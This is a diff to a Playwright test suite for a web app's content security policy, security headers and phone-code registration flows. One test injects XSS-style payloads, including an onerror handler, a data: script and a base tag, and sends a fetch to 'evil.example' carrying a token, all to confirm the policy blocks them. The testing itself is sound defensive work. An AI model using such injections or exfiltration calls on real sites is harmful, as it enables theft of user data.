@@ -21,6 +21,7 @@ const complaints = [];
 async function open(hash = '', options = {}, url = server.url) {
   const page = await browser.newPage();
   if (options.viewport) await page.setViewportSize(options.viewport);
+  if (options.clock) await page.clock.install();
   page.on('console', (message) => {
     // A reply with an error status is an entry of its own in the browser's console: expected here.
     if (['error', 'warning'].includes(message.type()) && !/status of [45]\d\d/.test(message.text())) complaints.push(message.text());
@@ -79,7 +80,50 @@ await check('a strict content security policy', async () => {
   const policy = reply.headers.get('content-security-policy');
   assert.match(policy, /default-src 'none'/);
   assert.match(policy, /script-src 'sha256-/);
-  assert.doesNotMatch(policy, /unsafe/);
+  assert.doesNotMatch(policy, /unsafe|\*|https?:/);
+  for (const directive of ["connect-src 'self'", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"])
+    assert.ok(policy.split('; ').includes(directive), directive);
+  assert.equal(reply.headers.get('x-frame-options'), 'DENY');
+  assert.equal(reply.headers.get('cross-origin-opener-policy'), 'same-origin');
+  assert.equal(reply.headers.get('cross-origin-resource-policy'), 'same-origin');
+  assert.match(reply.headers.get('permissions-policy'), /camera=\(\)/);
+  assert.equal(reply.headers.get('set-cookie'), null);
+});
+
+await check('what is injected does not run', async () => {
+  const page = await browser.newPage(); // its complaints are expected
+  await page.goto(server.url);
+  const expected = ['base-uri', 'connect-src', 'frame-src', 'script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'];
+  const tried = await page.evaluate(async (directives) => {
+    const violations = new Set();
+    const all = new Promise((resolve) => {
+      setTimeout(resolve, 10_000);
+      addEventListener('securitypolicyviolation', (event) => {
+        violations.add(event.effectiveDirective);
+        if (directives.every((each) => violations.has(each))) resolve();
+      });
+    });
+    const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
+    add('script', {textContent: 'window.ran = "script"'});
+    add('script', {src: 'data:text/javascript,window.ran="data"'});
+    add('div', {innerHTML: '<img src="data:," onerror="window.ran = `handler`"><p style="color: red">'});
+    add('style', {textContent: 'body { display: none }'});
+    const base = document.createElement('base');
+    base.href = 'https://evil.example/';
+    document.head.append(base);
+    const sent = await fetch('https://evil.example/?token').then(() => 'sent', () => 'not sent');
+    const frame = Object.assign(document.createElement('iframe'), {src: location.href});
+    document.body.append(frame);
+    await all;
+    return {ran: window.ran, sent, base: document.baseURI, shown: getComputedStyle(document.body).display, violations: [...violations].sort()};
+  }, expected);
+  assert.deepEqual(tried.violations, expected);
+  assert.equal(tried.ran, undefined);
+  assert.equal(tried.sent, 'not sent');
+  assert.ok(tried.base.startsWith(server.url), tried.base);
+  assert.equal(tried.shown, 'block');
+  assert.deepEqual(await browser.cookies(), [], 'the page uses no cookies');
+  await page.close();
 });
 
 await check('registration: error texts, then the account', async () => {
@@ -236,6 +280,52 @@ await check('a session that ended elsewhere', async () => {
   await press(page, 'Reload');
   await title(page, 'Log in');
   await alert(page, /error 3064/);
+  await page.close();
+});
+
+await check('a code that arrives', async () => {
+  const page = await open('#/register');
+  const code = await askForCode(page, person().phone);
+  const progress = section(page).locator('.progress:visible');
+  await progress.filter({hasText: /^It was delivered\. 5 tries left, [45]:\d\d min\.$/}).waitFor();
+  await codeField(page).fill(wrong(code));
+  await field(page, 'Email').fill('ada@example.net');
+  await field(page, 'Password').fill(ada.password);
+  await press(page, 'Create the account');
+  await progress.filter({hasText: '4 tries left'}).waitFor();
+  await page.close();
+});
+
+await check('a code that does not arrive; what a person writes meanwhile stays', async () => {
+  const page = await open('#/register', {clock: true});
+  await askForCode(page, '+15005553006');
+  await codeField(page).pressSequentially('12');
+  const progress = section(page).locator('.progress:visible');
+  await progress.filter({hasText: /^It was not delivered\. The phone number is a landline.*\(Twilio 30006\)/}).waitFor();
+  const asked = await page.locator('#wire li').count();
+  const polls = [];
+  page.on('response', (response) => { if (response.url().endsWith('/transactionStatus')) polls.push(response.status()); });
+  while (polls.length < 2) await page.waitForResponse(/transactionStatus/);
+  assert.equal(await codeField(page).inputValue(), '12');
+  assert.equal(await page.evaluate(() => document.activeElement.name), 'code');
+  assert.equal(await page.locator('#wire li').count(), asked, 'only news are shown');
+  await press(page, 'Start again');
+  let asking = 0;
+  page.on('request', () => { asking += 1; });
+  await page.clock.runFor(20_000);
+  assert.equal(asking, 0, 'nothing more is asked');
+  await page.close();
+});
+
+await check('a login by code does not tell whether it arrives', async () => {
+  const page = await open('#/login');
+  await field(page, 'Phone number').fill('+15005553003');
+  await press(page, 'Send the code');
+  await codeField(page).waitFor();
+  const progress = section(page).locator('.progress:visible');
+  await page.waitForResponse(/transactionStatus/);
+  await page.waitForResponse(/transactionStatus/);
+  assert.match((await progress.innerText()).trim(), /^5 tries left, [45]:\d\d min\.$/);
   await page.close();
 });
 
